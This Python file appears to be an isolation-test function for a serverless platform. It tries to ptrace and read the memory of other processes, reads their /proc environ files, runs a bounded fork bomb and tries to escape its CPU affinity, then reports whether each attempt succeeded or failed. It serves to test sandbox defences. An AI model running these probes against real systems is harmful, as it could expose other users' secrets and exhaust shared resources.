# Mallory's Python function: attacks that need system calls Node does not offer — ptrace and
# process_vm_readv on the victim's processes —, a bounded fork bomb, and moving off its CPUs.
import ctypes
import errno
import os
import time

libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH = 16
PTRACE_DETACH = 17


class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def err(n):
    return errno.errorcode.get(n, str(n))


def ptrace(pid):
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
        libc.ptrace(PTRACE_DETACH, pid, None, None)
        return "attached"
    return err(ctypes.get_errno())


def vm_read(pid):
    buf = ctypes.create_string_buffer(64)
    local = IoVec(ctypes.cast(buf, ctypes.c_void_p), 64)
    remote = IoVec(0x400000, 64)
    n = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    return "read" if n >= 0 else err(ctypes.get_errno())


def read(path):
    try:
        with open(path, "rb") as f:
            return f.read(200).decode("latin1")
    except OSError as e:
        return err(e.errno)


def processes(event):
    out = []
    for pid in event["pids"]:
        try:
            os.kill(pid, 0)
            sig = "delivered"
        except OSError as e:
            sig = err(e.errno)
        out.append({"pid": pid, "ptrace": ptrace(pid), "vm_read": vm_read(pid), "environ": read(f"/proc/{pid}/environ"), "signal0": sig})
    return {"targets": out, "visible": len([n for n in os.listdir("/proc") if n.isdigit()])}


def fork_bomb(event):
    """Forks children that sleep, until the kernel refuses or `limit` is reached."""
    children = 0
    error = None
    for _ in range(event["limit"]):
        try:
            pid = os.fork()
        except OSError as e:
            error = err(e.errno)
            break
        if pid == 0:
            time.sleep(3600)
            os._exit(0)
        children += 1
    return {"children": children, "error": error, "uid": os.getuid()}


def cpus(event):
    """Tries to move itself onto every CPU of the machine (off the CPUs Fare gives functions)."""
    before = sorted(os.sched_getaffinity(0))
    try:
        os.sched_setaffinity(0, range(os.cpu_count() or 1))
        error = None
    except OSError as e:
        error = err(e.errno)
    return {"before": before, "after": sorted(os.sched_getaffinity(0)), "error": error, "machine": os.cpu_count()}


def handler(event, context):
    return {"processes": processes, "forkBomb": fork_bomb, "cpus": cpus}[event["attack"]](event)
